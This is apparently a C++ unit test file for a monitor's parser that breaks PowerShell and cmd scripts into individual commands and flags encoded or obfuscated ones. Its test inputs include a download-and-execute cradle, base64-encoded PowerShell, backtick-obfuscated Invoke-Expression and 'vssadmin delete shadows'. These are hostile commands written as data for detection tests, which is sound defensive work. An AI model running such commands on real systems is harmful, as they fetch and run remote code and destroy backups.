// PowerShell and cmd texts.

#include "tests/monitor/events/shell/cases.h"

namespace candor::monitor::testing {
namespace {

Commands lines(std::string text, ShellLanguage language) {
  const Reading reading(std::move(text), language);
  Commands all;
  for (const ShellCommand& command : reading.script.commands)
    if (!command.script) all.emplace_back(command.line);
  return all;
}

Commands powershell(std::string text) { return lines(std::move(text), ShellLanguage::powershell); }
Commands cmd(std::string text) { return lines(std::move(text), ShellLanguage::cmd); }

TEST(PowerShell, StatementsStayAsTheyAreWritten) {
  EXPECT_EQ(powershell("Get-ChildItem C:\\x -Recurse"), (Commands{"Get-ChildItem C:\\x -Recurse"}));
  EXPECT_EQ(powershell("a; b\nc | d && e"), (Commands{"a", "b", "c", "d", "e"}));
  EXPECT_EQ(powershell("echo 'a; b' \"c | d\""), (Commands{"echo 'a; b' \"c | d\""}));
  EXPECT_EQ(powershell("# comment\na # b; c"), (Commands{"a # b; c"}));
  EXPECT_EQ(powershell("$x = 'literal'"), (Commands{}));
}

TEST(PowerShell, BlocksAndParenthesesAreReadBesides) {
  EXPECT_EQ(powershell("if (Test-Path x) { Remove-Item x } else { b }"),
            (Commands{"Test-Path x", "Remove-Item x", "b"}));
  EXPECT_EQ(powershell("$y = Get-Content (Join-Path a b)"),
            (Commands{"Get-Content (Join-Path a b)", "Join-Path a b"}));
  EXPECT_EQ(powershell("1..3 | ForEach-Object { Stop-Process $_ }").back(), "Stop-Process $_");
  EXPECT_EQ(powershell("iex (New-Object Net.WebClient).DownloadString('http://a.org/x')"),
            (Commands{"iex (New-Object Net.WebClient).DownloadString('http://a.org/x')",
                      "New-Object Net.WebClient"}));
}

TEST(PowerShell, TextsThatAreRunAreRead) {
  EXPECT_EQ(powershell("Invoke-Expression 'Remove-Item x'"),
            (Commands{"Invoke-Expression 'Remove-Item x'", "Remove-Item x"}));
  EXPECT_EQ(powershell("cmd /c \"del x & dir\""),
            (Commands{"cmd /c \"del x & dir\"", "del x", "dir"}));
  EXPECT_EQ(powershell("powershell -NoP -W Hidden -Command \"Remove-Item x\"").back(),
            "Remove-Item x");
}

TEST(PowerShell, EncodedCommandsAreDecoded) {
  // `rm x` in UTF-16LE, with the parameter's name cut short as PowerShell allows.
  for (const std::string name : {"-EncodedCommand", "-enc", "-e", "-ec", "/ENC"}) {
    const Reading reading("powershell.exe -NoProfile " + name + " cgBtACAAeAA=");
    const ShellCommand& inner = reading.command("rm x");
    EXPECT_EQ(inner.platform, Platform::windows) << name;
    EXPECT_NE(inner.obfuscation & static_cast<unsigned>(Obfuscation::encoded), 0u) << name;
  }
  EXPECT_EQ(
      powershell("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0geA==')))")
          .back(),
      "rm x");
}

TEST(PowerShell, EscapesInAProgramsNameAreTakenOffAndTold) {
  const Reading reading("I`n`voke-Expression x", ShellLanguage::powershell);
  const auto& command = reading.script.commands.back();
  EXPECT_EQ(reading.script.argv(command)[0].text, "Invoke-Expression");
  EXPECT_NE(command.obfuscation, 0);
}

TEST(PowerShell, CmdletsRunInPowerShellProgramsAreTheirOwn) {
  const Reading reading("Remove-Item x; vssadmin delete shadows; C:\\t\\a.exe /x",
                        ShellLanguage::powershell);
  EXPECT_EQ(reading.command("Remove-Item x").image, "/usr/bin/bash");
  EXPECT_EQ(reading.command("vssadmin delete shadows").image,
            "C:\\Windows\\System32\\vssadmin.exe");
  EXPECT_EQ(reading.command("C:\\t\\a.exe /x").image, "C:\\t\\a.exe");
}

TEST(Cmd, CommandsBetweenOperators) {
  EXPECT_EQ(cmd("a & b && c || d | e"), (Commands{"a", "b", "c", "d", "e"}));
  EXPECT_EQ(cmd("echo \"a & b\" ^& c"), (Commands{"echo \"a & b\" ^& c"}));
  EXPECT_EQ(cmd("@echo off\r\ndel x\r\n"), (Commands{"echo off", "del x"}));
  EXPECT_EQ(cmd("if exist x (del x) else (copy a b)"),
            (Commands{"if exist x", "del x", "else", "copy a b"}));
  EXPECT_EQ(cmd("for %f in (*.txt) do del %f"), (Commands{"for %f in", "*.txt", "do del %f"}));
  EXPECT_EQ(cmd("start \"title\" /b a.exe x"), (Commands{"a.exe x"}));
}

TEST(Cmd, RedirectionsAreFiles) {
  const Reading reading("type a > b 2>nul & echo x >> c", ShellLanguage::cmd);
  ASSERT_EQ(reading.script.redirections.size(), 2u);
  EXPECT_EQ(reading.script.redirections[0].target, "b");
  EXPECT_EQ(reading.script.redirections[1].kind, RedirectionKind::append);
}

TEST(Cmd, FromABashToolToo) {
  const Reading reading("cmd.exe /c 'del x & dir'");
  EXPECT_EQ(reading.command("del x").platform, Platform::windows);
  EXPECT_EQ(reading.command("dir").image, "C:\\Windows\\System32\\cmd.exe");
}

}  // namespace
}  // namespace candor::monitor::testing
